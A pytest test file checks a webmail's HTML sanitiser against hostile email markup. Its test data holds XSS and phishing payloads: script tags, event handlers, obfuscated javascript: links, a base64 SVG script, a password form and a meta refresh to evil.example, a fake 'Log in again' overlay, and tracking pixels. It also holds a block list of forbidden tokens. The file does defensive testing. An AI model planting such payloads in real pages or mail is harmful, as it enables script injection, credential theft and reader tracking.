"""The webmail's HTML sanitiser against what mail carries to attack a reader: nothing that runs,
loads from elsewhere (until allowed), submits, navigates or restyles the page may survive."""

from __future__ import annotations

import pytest

from webmail.html_mail import document, frame_policy, sanitise

ATTACKS = {
    "script tag": "<script>alert(1)</script>",
    "event handler": '<img src="cid:a" onerror="alert(1)"><body onload="alert(1)">',
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript entity link": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "data image": '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "css expression": '<div style="width: expression(alert(1))">x</div>',
    "css url": '<div style="background-image: url(https://track.example/p)">x</div>',
    "svg script": "<svg><script>alert(1)</script><image href='https://track.example/s'/></svg>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    "base href": '<base href="https://evil.example/"><a href="login">x</a>',
    "style element": "<style>@import url(https://track.example/c.css); body{display:none}</style>",
    "overlay": '<div style="position:fixed;top:0;left:0;z-index:99999">Log in again</div>',
    "iframe": '<iframe src="https://evil.example/"></iframe><frame src="x"><object data="x"></object>',
    "embed": '<embed src="https://evil.example/x.swf"><applet code="x"></applet>',
    "link stylesheet": '<link rel="stylesheet" href="https://track.example/c.css">',
    "srcset": '<img srcset="https://track.example/1x.png 1x">',
    "background attribute": '<table background="https://track.example/bg.png"><tr><td>x</td></tr></table>',
    "video poster": '<video poster="https://track.example/v.png"><source src="https://e.x/v.mp4"></video>',
}
FORBIDDEN = (
    "<script", "alert(", "onerror", "onload", "javascript", "data:", "expression", "url(", "track.example",
    "evil.example", "<meta", "<form", "<input", "<base", "<style", "position", "<iframe", "<frame",
    "<object", "<embed", "<applet", "<link", "srcset", "background=", "<video", "<svg",
)  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_nothing_that_runs_loads_or_submits_survives(attack: str) -> None:
    cleaned = sanitise(f"<p>before</p>{attack}<p>after</p>", inline_image_url=lambda cid: None).html
    assert "<p>before</p>" in cleaned and "<p>after</p>" in cleaned
    lowered = cleaned.lower()
    for forbidden in FORBIDDEN:
        assert forbidden not in lowered, (forbidden, cleaned)


def test_remote_images_wait_for_the_user_and_inline_ones_come_from_the_webmail() -> None:
    html = (
        '<img src="https://track.example/p.gif"><img src="http://track.example/q.gif"><img src="cid:logo@x">'
    )
    blocked = sanitise(html, inline_image_url=lambda cid: f"/message/7/inline/{cid}")
    assert blocked.blocked_images == 2
    assert "track.example" not in blocked.html and 'src="/message/7/inline/logo@x"' in blocked.html
    allowed = sanitise(html, inline_image_url=lambda cid: None, allow_remote=True)
    assert allowed.blocked_images == 0 and allowed.html.count("track.example") == 2


def test_links_open_elsewhere_without_a_referer_and_keep_their_text() -> None:
    cleaned = sanitise('<a href="https://example.org/a?b=1">read</a>', inline_image_url=lambda cid: None).html
    assert cleaned == '<a href="https://example.org/a?b=1" target="_blank" rel="noopener noreferrer">read</a>'


def test_layout_and_colours_survive() -> None:
    html = (
        '<table width="600" bgcolor="#eeeeee"><tr><td style="color: #333; padding: 4px">Hi</td></tr></table>'
    )
    cleaned = sanitise(html, inline_image_url=lambda cid: None).html
    assert 'width="600"' in cleaned and 'bgcolor="#eeeeee"' in cleaned
    assert "color:#333" in cleaned.replace(" ", "") and "padding:4px" in cleaned.replace(" ", "")


def test_the_frame_document_forbids_script_and_remote_loads_unless_allowed() -> None:
    policy = frame_policy(allow_remote=False)
    assert "default-src 'none'" in policy and "img-src 'self';" in policy and "script-src" not in policy
    assert "img-src 'self' https: http:" in frame_policy(allow_remote=True)
    page = document(sanitise("<p>x</p>", inline_image_url=lambda cid: None))
    assert page.startswith("<!doctype html>") and "<p>x</p>" in page and "<script" not in page
